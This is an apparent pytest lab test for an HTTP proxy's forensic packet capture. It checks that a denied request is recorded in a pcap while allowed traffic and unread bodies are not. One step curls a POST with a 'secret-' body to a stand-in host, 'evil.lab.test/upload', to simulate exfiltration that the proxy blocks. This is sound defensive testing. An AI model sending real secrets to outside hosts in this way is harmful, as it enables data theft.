"""Forensic capture of HTTP (protocols.capture) in the real `proxyvm run -c CONFIG` (two SO_REUSEPORT
processes) in front of the real nginx lab, curl as the guest through the explicit proxy listener,
tshark reading the pcap back:

* a request denied by policy is in the guest's pcap ring: the guest's request head (method, URL,
  its query string and a header it sent; the body of a request denied at its headers is never
  read, so not there), from its address and port to the proxy's, and
  our 403, in one TCP connection;
* an allowed request is not captured, and nothing the origin sent is in the pcap."""

from __future__ import annotations

import secrets
from pathlib import Path

import pytest

from tests.labs.pcap import all_packets, needs_tshark, ring, wait_for
from tests.labs.proc import free_port
from tests.labs.proxy import ProxyVM
from tests.protocols.http.conftest import GUEST_IP, PROXY_IP
from tests.protocols.http.test_quarantine_process import RULES, write_config
from tests.protocols.http.test_reload_rate import curl

pytestmark = [pytest.mark.lab, needs_tshark]


def test_denied_request_captured(lab, tmp_path: Path) -> None:
    port, admin = free_port(PROXY_IP), free_port(PROXY_IP)
    proxy = f"http://{PROXY_IP}:{port}"
    tag = secrets.token_hex(4)
    (tmp_path / "rules.yaml").write_text(RULES)
    state = tmp_path / "state"
    fields = ("ip.src", "tcp.srcport", "ip.dst", "tcp.dstport", "http.request.method", "http.request.uri",
              "http.response.code", "http.file_data")
    with ProxyVM.from_text(tmp_path, write_config(lab, port, admin)) as pvm:
        code, body = curl(proxy, f"http://www.lab.test/echo?allowed={tag}")
        assert code == 200 and "sni=www.lab.test" in body, body + pvm.tail()
        code, body = curl(proxy, f"http://evil.lab.test/upload?q={tag}", "-H", f"X-Tag: {tag}",
                          "--data-binary", f"secret-{tag}")
        assert code == 403 and "blocked by proxyvm rule default" in body, body
        rec = pvm.wait_audit(lambda x: x.get("protocol") == "http" and x.get("verdict") == "deny")
        pk = wait_for(lambda: (p := all_packets(ring(state, "web1"), *fields, decode=(f"tcp.port=={port},http",),
                                                    prefs=("http.desegment_body:FALSE",)))
                      and p, 15, "the pcap")
    gport = rec["src"].rpartition(":")[2]
    assert {(p["ip.src"], p["tcp.srcport"], p["ip.dst"], p["tcp.dstport"]) for p in pk} == {
        (GUEST_IP, gport, PROXY_IP, str(port)), (PROXY_IP, str(port), GUEST_IP, gport)}, pk
    reqs = [p for p in pk if p["http.request.method"]]
    assert [(p["http.request.method"], p["http.request.uri"]) for p in reqs] == [
        ("POST", f"http://evil.lab.test/upload?q={tag}")], pk
    assert [p["http.response.code"] for p in pk if p["http.response.code"]] == ["403"]
    raw = b"".join(f.read_bytes() for f in ring(state, "web1"))
    assert f"X-Tag: {tag}".encode() in raw
    # denied at its headers: the body was never read by the proxy, so it is not in the capture
    assert f"secret-{tag}".encode() not in raw
    assert f"allowed={tag}".encode() not in raw and b"sni=www.lab.test" not in raw  # nor the origin's answer
